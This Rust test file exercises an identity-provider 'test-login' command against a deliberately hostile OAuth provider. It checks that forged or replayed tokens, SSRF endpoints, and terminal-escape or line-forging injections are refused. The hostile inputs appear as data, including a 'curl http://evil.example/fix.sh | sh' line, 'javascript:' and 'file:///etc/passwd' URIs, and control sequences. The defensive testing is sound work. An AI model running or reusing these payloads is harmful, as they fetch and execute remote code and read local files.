//! `alter idp test-login` against a provider that misbehaves on demand (`testkit`'s
//! `HostileProvider`): whatever it answers, alter neither aborts, hangs, hammers it, nor shows an
//! identity it has not verified, and every error names the endpoint that answered.

use crate::support::issuers::Issuers;
use crate::support::{free_port, Run, TestContext};
use alter_testkit::hostile_provider::{HostileProvider, CLIENT};
use alter_testkit::https::{FixtureServer, Reply};
use alter_testkit::tokens::Signer;
use serde_json::json;
use std::time::Duration;

struct Hostile {
    provider: HostileProvider,
    ctx: TestContext,
}

impl Hostile {
    fn new() -> Hostile {
        let provider = HostileProvider::start();
        let mut ctx = TestContext::new();
        ctx.scan_issued_tokens(provider.issued_tokens_file());
        Hostile { provider, ctx }
    }

    /// `test-login --offline --flow device` against the provider, with `extra` flags.
    fn login(&self, extra: &[&str]) -> Run {
        let issuer = self.provider.issuer();
        let mut args =
            vec!["idp", "test-login", "--offline", "--issuer-url", &issuer, "--client-id", CLIENT, "--flow", "device"];
        if !extra.contains(&"--timeout") {
            args.extend_from_slice(&["--timeout", "30"]);
        }
        args.extend_from_slice(extra);
        self.ctx.run(&args)
    }
}

#[test]
fn a_verified_id_token_names_the_person() {
    let h = Hostile::new();
    h.login(&["--group-claim", "groups", "--role-claim", "roles"])
        .code(0)
        .stderr_has("To sign in, open http://127.0.0.1:")
        .stderr_has("and enter the code WDJB-MJHT")
        .stdout_has("Signed in as mallory <mallory@example.com>")
        .stdout_has("roles    admin");
}

#[test]
fn an_absurd_interval_neither_aborts_nor_polls_past_the_timeout() {
    let h = Hostile::new();
    h.provider.device(json!({"interval": u64::MAX}));
    h.provider.token(vec![HostileProvider::error("authorization_pending")]);
    let run = h.login(&["--timeout", "3"]);
    run.code(6).stderr_has("the sign-in was not finished within 3 s");
    assert!(run.elapsed < Duration::from_secs(10), "took {:?}", run.elapsed);
    assert_eq!(h.provider.polls(), 0, "no poll fits in the time left");
    let h = Hostile::new();
    h.provider.device(json!({"interval": 1e300}));
    h.provider.token(vec![HostileProvider::error("slow_down")]);
    h.login(&["--timeout", "2"]).code(6);
    // slow_down on a large interval: saturates, no poll planned past the deadline.
    let h = Hostile::new();
    h.provider.device(json!({"interval": u64::MAX - 2}));
    h.provider.token(vec![HostileProvider::error("slow_down")]);
    h.login(&["--timeout", "2"]).code(6);
}

#[test]
fn a_zero_interval_is_polled_once_a_second_at_most() {
    let h = Hostile::new();
    h.provider.device(json!({"interval": 0}));
    let pending = HostileProvider::error("authorization_pending");
    let tokens = h.provider.tokens(h.provider.signer(), json!({}));
    h.provider.token(vec![pending.clone(), pending.clone(), pending, tokens]);
    let run = h.login(&[]);
    run.code(0).stdout_has("Signed in as mallory");
    assert_eq!(h.provider.polls(), 4);
    assert!(run.elapsed >= Duration::from_secs(4), "4 polls at least 1 s apart took {:?}", run.elapsed);
}

#[test]
fn slow_down_adds_five_seconds_to_the_interval() {
    let h = Hostile::new();
    let tokens = h.provider.tokens(h.provider.signer(), json!({}));
    h.provider.token(vec![HostileProvider::error("slow_down"), tokens]);
    let run = h.login(&[]);
    run.code(0).stdout_has("Signed in as mallory");
    assert_eq!(h.provider.polls(), 2);
    // 1 s, then 1 + 5 s.
    assert!(run.elapsed >= Duration::from_secs(7), "took {:?}", run.elapsed);
}

#[test]
fn an_answer_alter_refuses_ends_polling_at_once_and_what_heals_is_retried() {
    let h = Hostile::new();
    h.provider.token(vec![Reply::Huge { bytes: 1 << 20, content_length: true }]);
    let run = h.login(&["--timeout", "20"]);
    let token_endpoint = h.provider.url("/token");
    run.code(5).stderr_has(&format!(
        "the token endpoint ({token_endpoint}) answered HTTP 200: not a usable OAuth response (larger than 256 KiB)"
    ));
    assert_eq!(h.provider.polls(), 1, "not retried");
    assert!(run.elapsed < Duration::from_secs(10), "took {:?}", run.elapsed);

    let h = Hostile::new();
    let gzip = vec![("content-encoding".to_owned(), "gzip".to_owned())];
    let pending = Box::new(HostileProvider::error("authorization_pending"));
    h.provider.token(vec![Reply::Headers { headers: gzip, then: pending }]);
    let run = h.login(&["--timeout", "20"]);
    run.code(5).stderr_has("not a usable OAuth response (gzip-compressed, which alter did not ask for)");
    assert_eq!(h.provider.polls(), 1, "not retried");

    let h = Hostile::new();
    let tokens = h.provider.tokens(h.provider.signer(), json!({}));
    h.provider.token(vec![Reply::status(503, "text/html", "<h1>busy</h1>"), tokens]);
    h.login(&[]).code(0).stdout_has("Signed in as mallory");
    assert_eq!(h.provider.polls(), 2);
}

#[test]
fn errors_name_the_endpoint_that_answered_and_its_status() {
    let h = Hostile::new();
    h.provider.device_reply(Reply::status(500, "text/html", "<h1>oops</h1>"));
    let device = h.provider.url("/device");
    h.login(&[]).code(5).stderr_has(&format!(
        "the device authorization endpoint ({device}) answered HTTP 500: not a usable OAuth response"
    ));
    let h = Hostile::new();
    h.provider.token(vec![Reply::status(500, "text/html", "<h1>oops</h1>")]);
    let token = h.provider.url("/token");
    h.login(&[]).code(5).stderr_has(&format!("the token endpoint ({token}) answered HTTP 500"));
}

#[test]
fn an_id_token_with_a_bad_signature_shows_no_identity_and_no_record() {
    let h = Hostile::new();
    let stranger = Signer::es256("hostile-key");
    let forged = h.provider.tokens(&stranger, json!({}));
    h.provider.token(vec![forged]);
    let run = h.login(&["--group-claim", "groups", "--role-claim", "roles"]);
    run.code(5)
        .stdout_has("No verified identity was obtained: the ID token did not verify (signature: invalid")
        .stdout_has("What Alter would record for this user: nothing");
    for shown in ["Signed in as", "mallory", "00gADMINADMINADMIN", "roles    admin", "Next"] {
        assert!(!run.stdout.contains(shown), "{shown:?} shown from an unverified token:\n{}", run.stdout);
    }
    let json = h.login(&["--json"]).json();
    assert_eq!((json["person"].clone(), json["record"].clone()), (json!(null), json!(null)), "{json}");
}

#[test]
fn the_record_and_the_checklist_follow_one_rule() {
    let h = Hostile::new();
    let tokens = h.provider.tokens(h.provider.signer(), json!({"groups": ["Sales", 7], "roles": {"admin": true}}));
    h.provider.token(vec![tokens]);
    h.login(&["--group-claim", "groups", "--role-claim", "roles"])
        .code(0)
        .stdout_has("! group_claim")
        .stdout_has("groups   (none)")
        .stdout_has("! role_claim")
        .stdout_has("roles    (none)");
}

#[test]
fn a_verification_uri_that_is_not_https_is_neither_opened_nor_shown() {
    for (field, value) in [
        ("verification_uri", "javascript:alert(1)"),
        ("verification_uri_complete", "file:///etc/passwd"),
        ("verification_uri", "ssh://evil.example"),
        ("verification_uri", "https://evil.example/\u{1b}]0;x\u{7}"),
    ] {
        let mut h = Hostile::new();
        let opened = h.ctx.home().join("opened");
        let browser = format!("sh -c 'echo \"$0\" >> {}'", opened.display());
        h.ctx.env("BROWSER", browser);
        h.provider.device(json!({ field: value }));
        let run = h.login(&[]);
        if value.starts_with("https://") {
            // Parsed and percent-encoded: no control character reaches the terminal.
            assert!(!run.stderr.contains('\u{1b}'), "{}", run.stderr);
            continue;
        }
        run.code(5).stderr_has(&format!("gave a `{field}` that is not an https URL: `{value}`"));
        assert!(!opened.exists(), "{value} reached $BROWSER");
        assert_eq!(h.provider.polls(), 0);
    }
}

#[test]
fn a_text_mode_browser_blocks_neither_the_timeout_nor_the_run() {
    let mut h = Hostile::new();
    let bin = h.ctx.home().join("bin");
    std::fs::create_dir_all(&bin).unwrap();
    let lynx = bin.join("lynx");
    let pid = h.ctx.home().join("lynx.pid");
    std::fs::write(
        &lynx,
        format!("#!/bin/sh\necho $$ > {}\nexec sleep 30 </dev/null >/dev/null 2>&1\n", pid.display()),
    )
    .unwrap();
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(&lynx, std::fs::Permissions::from_mode(0o755)).unwrap();
    h.ctx.env("BROWSER", lynx.to_str().unwrap());
    h.provider.token(vec![HostileProvider::error("authorization_pending")]);
    let run = h.login(&["--timeout", "3"]);
    if let Ok(pid) = std::fs::read_to_string(&pid) {
        let _ = std::process::Command::new("kill").arg(pid.trim()).status();
    }
    run.code(6).stderr_has("not finished within 3 s");
    assert!(run.elapsed < Duration::from_secs(10), "the text browser held the run for {:?}", run.elapsed);
    assert!(h.provider.polls() >= 1, "polling went on while the browser ran");
}

#[test]
fn quiet_never_hides_what_the_person_must_act_on() {
    let h = Hostile::new();
    h.login(&["-q"]).code(0).stderr_has("and enter the code WDJB-MJHT");
}

#[test]
fn port_zero_is_refused() {
    let h = Hostile::new();
    let run = h.login(&["--port", "0"]);
    run.code(2).stderr_has("--port");
    assert!(h.provider.requests().is_empty(), "{:?}", h.provider.requests());
}

#[test]
fn print_token_writes_only_one_line_of_printable_ascii() {
    let h = Hostile::new();
    let hostile = "abc\u{1b}]0;pwned\u{7}\nhint: run this";
    h.provider.token(vec![h.provider.access_only(hostile)]);
    let run = h.login(&["--print-token", "access"]);
    run.code(5).stderr_has("not printable ASCII");
    assert_eq!(run.stdout, "", "nothing on stdout");
}

#[test]
fn openid_granted_without_an_id_token_does_not_loop_the_hint_and_userinfo_names_the_person() {
    let h = Hostile::new();
    h.provider.token(vec![h.provider.access_only("opaque-dot-style")]);
    let run = h.login(&[]);
    run.code(5)
        .stderr_has("--flow browser")
        .stdout_has("ID token: none issued, although `openid` was requested")
        .stdout_has(
            "Signed in as mallory <mallory@example.com> (Mallory (userinfo))  (from the provider's userinfo endpoint",
        )
        .stdout_has("an app would give Alter the ID token, and none was issued");
    assert!(!run.stderr.contains("request the `openid` scope"), "{}", run.stderr);
    assert!(!run.stdout.contains("(no sub)"), "{}", run.stdout);
    assert_eq!(h.provider.userinfo_authorizations(), ["Bearer opaque-dot-style"]);
    h.provider.token(vec![h.provider.access_only("opaque-dot-style")]);
    assert_eq!(h.login(&["--json"]).json()["identity_from"], "userinfo");
}

#[test]
fn endpoints_of_a_public_issuer_cannot_point_into_this_machine() {
    let issuers = Issuers::new();
    let local = FixtureServer::start_http();
    let signer = Signer::es256("k1");
    let issuer = "https://login.evil.example";
    for field in ["token_endpoint", "device_authorization_endpoint"] {
        let mut document = json!({
            "issuer": issuer,
            "jwks_uri": format!("{issuer}/jwks"),
            "token_endpoint": format!("{issuer}/token"),
            "device_authorization_endpoint": format!("{issuer}/device"),
        });
        document[field] = json!(format!("{}/steal", local.base_url()));
        issuers.serve(&document, &Signer::jwks(&[&signer]));
        let ca = issuers.ca.ca_pem_path().to_str().unwrap().to_owned();
        let args = ["idp", "test-login", "--offline", "--issuer-url", issuer, "--ca-cert", &ca, "--client-id", "c"];
        let run = issuers.ctx.run(&[&args[..], &["--flow", "device", "--timeout", "10"]].concat());
        run.code(5).stderr_has(&format!("the provider's `{field}` ")).stderr_has("probe your network");
    }
    assert!(local.requests().is_empty(), "nothing sent into this machine: {:?}", local.requests());
    assert!(issuers.server.requests().iter().all(|r| r.path != "/device" && r.path != "/token"));
}

#[test]
fn flow_auto_chooses_the_browser_then_the_device_grant_then_says_to_choose() {
    let h = Hostile::new();
    let auto = auto_args(&h, "10");
    let auto: Vec<&str> = auto.iter().map(String::as_str).collect();
    h.ctx.run(&auto).code(0).stderr_has("and enter the code WDJB-MJHT").stdout_has("by the device code flow");
    let mut with_browser = Hostile::new();
    with_browser.ctx.env("BROWSER", "true");
    let auto = auto_args(&with_browser, "10");
    let auto: Vec<&str> = auto.iter().map(String::as_str).collect();
    with_browser.ctx.run(&auto).stderr_has("Sign in at this URL");
    let none = Hostile::new();
    none.provider.document(json!({"device_authorization_endpoint": null}));
    let auto = auto_args(&none, "10");
    let auto: Vec<&str> = auto.iter().map(String::as_str).collect();
    none.ctx.run(&auto).code(2).stderr_has("no way to sign in chosen").stderr_has("--flow paste");
}

/// `test-login` with the default `--flow auto` against `h`, on a port of its own.
fn auto_args(h: &Hostile, timeout: &str) -> Vec<String> {
    let issuer = h.provider.issuer();
    let args = ["idp", "test-login", "--offline", "--issuer-url", &issuer, "--client-id", CLIENT, "--timeout", timeout];
    args.iter().map(|a| a.to_string()).chain(["--port".to_owned(), free_port()]).collect()
}

/// The browser flow against the hostile provider: browser.mjs follows its authorization
/// endpoint's redirect straight back to alter's callback.
fn browser_login(h: &mut Hostile, extra: &[&str]) -> Run {
    h.ctx.env("BROWSER", alter_testkit::oidc_provider::OidcProvider::browser_command());
    let port = free_port();
    let issuer = h.provider.issuer();
    let mut args = vec!["idp", "test-login", "--offline", "--issuer-url", &issuer, "--client-id", CLIENT];
    args.extend_from_slice(&["--flow", "browser", "--port", &port]);
    if !extra.contains(&"--timeout") {
        args.extend_from_slice(&["--timeout", "20"]);
    }
    args.extend_from_slice(extra);
    h.ctx.run(&args)
}

#[test]
fn a_replayed_id_token_is_refused_through_the_whole_command() {
    let mut h = Hostile::new();
    h.provider.token(vec![h.provider.browser_tokens(Some("someone-elses-nonce"))]);
    let run = browser_login(&mut h, &[]);
    run.code(5).stderr_has("the ID token's `nonce` is not the one this sign-in sent: refusing a replayed token");
    assert!(!run.stdout.contains("Signed in"), "{}", run.stdout);
}

#[test]
fn verbose_shows_no_token_no_code_and_no_verifier() {
    let mut h = Hostile::new();
    h.provider.token(vec![h.provider.browser_tokens(None)]);
    let run = browser_login(&mut h, &["-v"]);
    run.code(0).stdout_has("Signed in as mallory").stderr_has("* POST ").stderr_has("/token");
    let body = h.provider.bodies("/token").pop().expect("the code was exchanged");
    let verifier = url::form_urlencoded::parse(body.as_bytes()).find(|(k, _)| k == "code_verifier").unwrap().1;
    assert!(body.contains(alter_testkit::hostile_provider::CODE), "{body}");
    for secret in [alter_testkit::hostile_provider::CODE, verifier.as_ref()] {
        assert!(!run.stderr.contains(secret) && !run.stdout.contains(secret), "{secret} shown:\n{}", run.stderr);
    }
    let device = Hostile::new();
    let run = device.login(&["-v"]);
    run.code(0).stderr_has("* POST ");
    assert!(!run.stderr.contains("hostile-device-code"), "the device code shown:\n{}", run.stderr);
}

#[test]
fn resource_is_sent_with_the_authorization_the_code_exchange_and_the_device_request() {
    let mut h = Hostile::new();
    h.provider.token(vec![h.provider.browser_tokens(None)]);
    browser_login(&mut h, &["--resource", "https://api.example/v1"]).code(0);
    let indicator = "resource=https%3A%2F%2Fapi.example%2Fv1";
    let authorize = h.provider.requests().into_iter().filter(|r| r.starts_with("GET /authorize")).collect::<Vec<_>>();
    assert!(!authorize.is_empty() && authorize.iter().all(|r| r.contains(indicator)), "{authorize:?}");
    assert!(h.provider.bodies("/token").iter().all(|b| b.contains(indicator)), "{:?}", h.provider.bodies("/token"));
    let device = Hostile::new();
    device.login(&["--resource", "https://api.example/v1"]).code(0);
    assert!(device.provider.bodies("/device")[0].contains(indicator), "{:?}", device.provider.bodies("/device"));
}

#[test]
fn no_browser_prints_the_url_and_opens_nothing() {
    let mut h = Hostile::new();
    let run = browser_login(&mut h, &["--no-browser", "--timeout", "2"]);
    run.code(6).stderr_has("Sign in at this URL").stderr_has("/authorize?");
    let authorize = h.provider.requests().into_iter().filter(|r| r.starts_with("GET /authorize")).count();
    assert_eq!(authorize, 1, "only alter's own pre-flight, no browser: {:?}", h.provider.requests());
    assert_eq!(h.provider.polls(), 0);
}

#[test]
fn the_saved_provider_and_its_wallet_client_are_the_defaults() {
    use crate::support::control_plane::{Session, APP};
    let h = Hostile::new();
    let s = Session::new();
    let issuer = h.provider.issuer();
    let mut saved = alter_testkit::control_plane::discovery(&issuer, "custom_oidc");
    saved["jwks_uri"] = json!(h.provider.url("/jwks"));
    s.cp.register_issuer(&issuer, saved);
    let wallet = ["--wallet-client-id", CLIENT, "--wallet-client-secret", "hostile-wallet-secret-31"];
    s.alter(&[&["idp", "create", "--issuer-url", &issuer, "--role-claim", "roles"][..], &wallet[..]].concat()).code(0);
    let mut ctx = TestContext::new();
    ctx.env("ALTER_API_URL", s.cp.url()).env("ALTER_TOKEN", crate::support::control_plane::TOKEN);
    ctx.scan_issued_tokens(h.provider.issued_tokens_file());
    let run = ctx.run(&["idp", "test-login", "--app", APP, "--flow", "device", "--timeout", "20"]);
    run.code(0)
        .stdout_has("Signed in as mallory")
        .stdout_has(&format!("client {CLIENT} by the device code flow"))
        .stdout_has("roles    admin");
    assert!(h.provider.polls() >= 1);
}

#[test]
fn auth0_gets_the_configured_audience_as_a_parameter() {
    let issuers = Issuers::new();
    let issuer = "https://dev-alter.us.auth0.com/";
    let signer = Signer::es256("auth0-key");
    let document = json!({
        "issuer": issuer,
        "jwks_uri": format!("{issuer}.well-known/jwks.json"),
        "token_endpoint": format!("{issuer}oauth/token"),
        "device_authorization_endpoint": format!("{issuer}oauth/device/code"),
    });
    issuers.serve(&document, &Signer::jwks(&[&signer]));
    let device = json!({"device_code": "d-1", "user_code": "ABCD", "verification_uri": format!("{issuer}activate"), "interval": 1});
    issuers.server.route(&format!("{issuer}oauth/device/code"), Reply::Json(device));
    issuers.server.route(&format!("{issuer}oauth/token"), HostileProvider::error("access_denied"));
    let ca = issuers.ca.ca_pem_path().to_str().unwrap().to_owned();
    let args = ["idp", "test-login", "--offline", "--issuer-url", issuer, "--ca-cert", &ca, "--client-id", "c1"];
    let run = issuers.ctx.run(&[&args[..], &["--audience", "https://api.example.com", "--flow", "device"]].concat());
    run.code(5).stderr_has("access_denied");
    let asked = issuers.server.requests().into_iter().find(|r| r.path == "/oauth/device/code").expect("device request");
    let body = String::from_utf8_lossy(&asked.body).into_owned();
    assert!(body.contains("audience=https%3A%2F%2Fapi.example.com"), "{body}");
}

#[test]
fn flow_auto_on_a_terminal_without_browser_or_device_grant_asks_for_the_address() {
    let h = Hostile::new();
    h.provider.document(json!({"device_authorization_endpoint": null}));
    let auto = auto_args(&h, "20");
    let auto: Vec<&str> = auto.iter().map(String::as_str).collect();
    let run = h.ctx.run_in_terminal(&auto, b"code=stolen&state=not-this-one\n");
    assert_eq!(run.code, 5, "{}", run.stdout);
    for shown in
        ["Sign in at this URL, on any machine", "Address: ", "the pasted address is not this sign-in's callback"]
    {
        assert!(run.stdout.contains(shown), "{shown:?} missing:\n{}", run.stdout);
    }
}

#[test]
fn paste_keeps_the_listener_running_and_the_first_to_arrive_wins() {
    use std::io::BufRead;
    let h = Hostile::new();
    h.provider.token(vec![h.provider.browser_tokens(None)]);
    let port = free_port();
    let issuer = h.provider.issuer();
    let args = ["idp", "test-login", "--offline", "--issuer-url", &issuer, "--client-id", CLIENT, "--port", &port];
    let mut child = h
        .ctx
        .command(&[&args[..], &["--flow", "paste", "--timeout", "20"]].concat())
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let mut stderr = std::io::BufReader::new(child.stderr.take().unwrap());
    let url = loop {
        let mut line = String::new();
        assert_ne!(stderr.read_line(&mut line).unwrap(), 0, "alter ended before the URL");
        if let Some(url) = line.trim().strip_prefix("http://127.0.0.1:").filter(|l| l.contains("/authorize?")) {
            break format!("http://127.0.0.1:{url}");
        }
    };
    // Nothing is pasted (stdin stays open): the browser on this machine reaches the listener.
    let browser = alter_testkit::oidc_provider::OidcProvider::browser_command();
    let status = std::process::Command::new("sh").args(["-c", &format!("{browser} \"$0\""), &url]).status().unwrap();
    assert!(status.success());
    let stdin = child.stdin.take();
    let output = child.wait_with_output().unwrap();
    drop(stdin);
    let stdout = String::from_utf8_lossy(&output.stdout);
    assert_eq!(output.status.code(), Some(0), "{stdout}");
    assert!(stdout.contains("Signed in as mallory"), "{stdout}");
}

#[test]
fn a_user_code_or_error_description_cannot_forge_a_line_of_ours() {
    let h = Hostile::new();
    h.provider.device(json!({"user_code": "WDJB\nhint: run curl http://evil.example/fix.sh | sh"}));
    let forged =
        json!({"error": "access_denied", "error_description": "x\nhint: run curl http://evil.example/fix.sh | sh"});
    h.provider.token(vec![Reply::status(400, "application/json", forged.to_string())]);
    let run = h.login(&[]);
    run.code(5)
        .stderr_has("enter the code WDJB\\u{a}hint: run curl")
        .stderr_has("access_denied: x\\u{a}hint: run curl http://evil.example/fix.sh | sh");
    let mut lines = run.stdout.lines().chain(run.stderr.lines());
    assert!(!lines.any(|l| l.starts_with("hint: run curl")), "a forged line:\n{}", run.stderr);
}
